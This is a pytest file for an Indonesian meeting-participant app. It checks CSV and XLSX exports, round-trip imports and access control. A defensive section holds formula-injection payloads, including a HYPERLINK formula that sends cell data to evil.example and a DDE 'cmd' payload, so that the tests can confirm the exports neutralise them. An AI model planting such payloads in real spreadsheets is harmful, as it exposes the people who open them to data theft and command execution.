"""Exports: the import's columns, NIP as text, and a clean round trip into another meeting."""
import csv
import io

import pytest
from openpyxl import load_workbook

from rakor.extensions import db
from rakor.participants import exports, imports
from rakor.participants.services import cancel_participant, clean_participant, register_participant
from tests.factories import make_meeting, make_quota
from tests.helpers import agency_of

pytestmark = pytest.mark.usefixtures("kalsel")


def register(meeting, code, **raw):
    result = clean_participant(raw, agency_of(code).id)
    assert not result.errors, result.errors
    return register_participant(meeting, result.data)[0]


def filled_meeting():
    meeting = make_meeting(organizer=agency_of("63"))
    register(meeting, "63.10", name="Siti Rahmah, S.Sos", nip="018907142015032002", position="Kasubbid",
             phone="081351234567", email="siti@tanahbumbukab.go.id", gender="P")
    register(meeting, "63.02", name="Drs. H. Said Akhmad, MM", nip="196805121993031007",
             position="Sekretaris Daerah", rank="IV/d", gender="L", meeting_role="narasumber")
    register(meeting, "63.71", name="Ahmad Fauzi, S.T.", email="ahmad@banjarmasinkota.go.id")
    cancel_participant(register(meeting, "63.02", name="Batal"))
    return meeting


def test_csv_has_bom_the_import_columns_and_excludes_cancelled():
    meeting = filled_meeting()
    content = exports.export(meeting.id, "csv")
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    lines = text.splitlines()
    # Semicolons: what Excel with Indonesian regional settings splits a CSV by (issue 12).
    assert lines[0] == "Nama;NIP;Jabatan;Pangkat/Golongan;Instansi;Kode Wilayah;No HP;Email;Jenis Kelamin;Peran"
    # Ordered by region code: Kotabaru (63.02), Tanah Bumbu (63.10), Banjarmasin (63.71).
    assert lines[1] == ("Drs. H. Said Akhmad, MM;196805121993031007;Sekretaris Daerah;Pembina Utama Madya (IV/d);"
                        "Bappeda Kabupaten Kotabaru;63.02;;;L;narasumber")
    assert "63.10" in lines[2] and "018907142015032002" in lines[2] and "0813-5123-4567" in lines[2]
    assert "Batal" not in text and len(lines) == 4


def test_xlsx_keeps_nip_and_codes_as_text():
    meeting = filled_meeting()
    ws = load_workbook(io.BytesIO(exports.export(meeting.id, "xlsx"))).active
    header = [c.value for c in ws[1]]
    assert header == ["Nama", "NIP", "Jabatan", "Pangkat/Golongan", "Instansi", "Kode Wilayah", "No HP", "Email",
                      "Jenis Kelamin", "Peran"]
    row = [c for c in ws[3]]
    assert row[1].value == "018907142015032002" and row[1].number_format == "@"
    assert row[5].value == "63.10" and row[5].number_format == "@"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_into_another_meeting(fmt):
    source = filled_meeting()
    content = exports.export(source.id, fmt)
    target = make_meeting(organizer=agency_of("63"))
    make_quota(target, agency_of("63.10"), seats=1)
    report = imports.preview(target, content, f"peserta.{fmt}", 100)
    assert report.ok, report.problems()
    # Only a warning for Banjarmasin, which has no seat quota in the new meeting.
    assert [r.status for r in report.rows] == ["ok", "ok", "warning"]
    imports.commit(target, report)
    again = exports.export(target.id, fmt)
    if fmt == "csv":
        assert again == content
    else:
        a = [[c.value for c in r] for r in load_workbook(io.BytesIO(content)).active.iter_rows()]
        b = [[c.value for c in r] for r in load_workbook(io.BytesIO(again)).active.iter_rows()]
        assert a == b


def test_export_pages_access(client, login_as):
    meeting = filled_meeting()
    db.session.commit()
    login_as("committee")
    response = client.get(f"/meetings/{meeting.id}/participants/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="peserta-2024-02-01-')
    assert b"Siti Rahmah" in response.data
    response = client.get(f"/meetings/{meeting.id}/participants/export.xlsx")
    assert response.status_code == 200 and response.data[:2] == b"PK"
    assert client.get(f"/meetings/{meeting.id}/participants/export.pdf").status_code == 404
    assert client.get("/meetings/999999/participants/export.csv").status_code == 404
    login_as("leadership")
    assert client.get(f"/meetings/{meeting.id}/participants/export.csv").status_code == 200
    login_as("delegate", agency=agency_of("63.02"))
    assert client.get(f"/meetings/{meeting.id}/participants/export.csv").status_code == 403


# --- formula injection and characters a workbook cannot hold (issue 8, defects 3 and 4) -------

# (A leading tab or carriage return cannot reach a participant field: the services strip it.
# tests/core/test_tabular.py covers them.)
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def hostile_meeting():
    meeting = make_meeting(organizer=agency_of("63"))
    for i, text in enumerate(FORMULAS):
        register(meeting, "63.02", name=f"Peserta {i}", position=text)
    register(meeting, "63.02", name="=HYPERLINK(\"http://evil.example\")")
    return meeting


def test_csv_export_neutralises_every_cell_that_starts_a_formula():
    meeting = hostile_meeting()
    rows = list(csv.reader(io.StringIO(exports.export(meeting.id, "csv").decode("utf-8-sig"), newline=""),
                           delimiter=";"))
    positions = {r[0]: r[2] for r in rows[1:]}
    for i, text in enumerate(FORMULAS):
        assert positions[f"Peserta {i}"] == "'" + text
    assert "'=HYPERLINK(\"http://evil.example\")" in positions
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_xlsx_export_writes_formulas_as_quoted_text_never_as_formulas():
    meeting = hostile_meeting()
    ws = load_workbook(io.BytesIO(exports.export(meeting.id, "xlsx"))).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    positions = {row[0].value: row[2].value for row in ws.iter_rows(min_row=2)}
    for i, text in enumerate(FORMULAS):
        assert positions[f"Peserta {i}"] == "'" + text
    assert "'=HYPERLINK(\"http://evil.example\")" in positions


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_names_starting_with_a_formula_character_round_trip_as_typed(fmt):
    source = make_meeting(organizer=agency_of("63"))
    typed = [("-Ahmad", "-"), ("=Budi", "+Kepala"), ("@Cici", "Staf"), ("Dedi", "-5")]
    for name, position in typed:
        register(source, "63.02", name=name, position=position)
    content = exports.export(source.id, fmt)
    target = make_meeting(organizer=agency_of("63"))
    report = imports.preview(target, content, f"peserta.{fmt}", 100)
    assert report.ok, report.problems()
    assert sorted((r.data.name, r.data.position) for r in report.rows) == sorted(typed)
    imports.commit(target, report)
    assert exports.export(target.id, "csv") == exports.export(source.id, "csv")


def test_xlsx_export_drops_characters_a_workbook_cannot_hold(client, login_as):
    """A name with ESC (typed before input cleaning existed) made the export answer 500."""
    meeting = make_meeting(organizer=agency_of("63"))
    register(meeting, "63.02", name="Budi\x1bSantoso", position="Kepala\x01Bidang")
    ws = load_workbook(io.BytesIO(exports.export(meeting.id, "xlsx"))).active
    assert [ws["A2"].value, ws["C2"].value] == ["BudiSantoso", "KepalaBidang"]
    db.session.commit()
    login_as("committee")
    response = client.get(f"/meetings/{meeting.id}/participants/export.xlsx")
    assert response.status_code == 200 and response.data[:2] == b"PK"


# --- Indonesian Excel (issue 12) --------------------------------------------------------------

def test_csv_export_and_template_are_semicolon_separated_utf8_with_bom():
    meeting = filled_meeting()
    content = exports.export(meeting.id, "csv")
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == [exports.EXPORT_HEADERS[f] for f in exports.FIELDS] and len(rows) == 4
    assert all(len(r) == 10 for r in rows)
    template = exports.template("csv")
    assert template.startswith(b"\xef\xbb\xbf") and template.decode("utf-8-sig").startswith("Nama;NIP;Jabatan;")


def test_the_export_buttons_offer_xlsx_first(client, login_as):
    meeting = filled_meeting()
    db.session.commit()
    login_as("committee")
    html = client.get(f"/meetings/{meeting.id}/participants").get_data(as_text=True)
    assert 0 < html.index('id="link-export-xlsx"') < html.index('id="link-export-csv"')
